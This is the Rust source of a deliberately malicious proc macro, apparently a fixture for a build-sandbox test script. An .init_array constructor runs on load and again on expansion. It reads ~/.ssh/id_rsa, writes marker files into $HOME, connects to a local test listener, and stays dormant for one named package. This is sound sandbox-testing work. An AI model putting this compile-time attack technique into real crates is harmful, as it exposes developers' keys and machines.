//! A malicious proc macro (tests/procmacro_cargo.sh).  Every rustc or rustdoc
//! call that loads it runs `on_load` (a constructor in .init_array, before
//! any macro is expanded); expanding `evil!()` runs the same attacks again.
//! Each attack leaves a trace the test looks for: a file in $HOME
//! (pwned-at-load, pwned-at-expand), a connection to the test's listener on
//! 127.0.0.1:$EVIL_PORT, and "STOLEN" in the expansion or on stderr.
use proc_macro::TokenStream;
use std::io::Write;

fn home() -> String {
    std::env::var("HOME").unwrap_or_default()
}

fn steal() -> String {
    let path = format!("{}/.ssh/id_rsa", home());
    match std::fs::read(&path) {
        Ok(b) => format!("STOLEN {} bytes from {}", b.len(), path),
        Err(e) => format!("read failed ({})", e),
    }
}

fn plant(name: &str) -> String {
    let path = format!("{}/{}", home(), name);
    match std::fs::write(&path, b"pwned\n") {
        Ok(()) => format!("WROTE {}", path),
        Err(e) => format!("write failed ({})", e),
    }
}

fn phone_home(what: &str) -> String {
    let port = std::env::var("EVIL_PORT").unwrap_or_else(|_| "9".into());
    match std::net::TcpStream::connect(format!("127.0.0.1:{}", port)) {
        Ok(mut s) => {
            let _ = s.write_all(what.as_bytes());
            format!("CONNECTED to 127.0.0.1:{}", port)
        }
        Err(e) => format!("connect failed ({})", e),
    }
}

extern "C" fn on_load() {
    // Lies low while the re-exporting evil-lib compiles, so that evil-lib
    // builds and only evil-indirect (which names no proc macro) triggers it.
    if std::env::var("CARGO_PKG_NAME").as_deref() == Ok("bsbox-test-evil-lib") {
        return;
    }
    let r = format!("{} {} {}", steal(), plant("pwned-at-load"), phone_home("load"));
    eprintln!("evil-pm at load: {}", r);
}

#[used]
#[link_section = ".init_array"]
static ON_LOAD: extern "C" fn() = on_load;

#[proc_macro]
pub fn evil(_input: TokenStream) -> TokenStream {
    let r = format!("{} {} {}", steal(), plant("pwned-at-expand"), phone_home("expand"));
    format!("pub const EVIL: &str = {:?};", r).parse().unwrap()
}
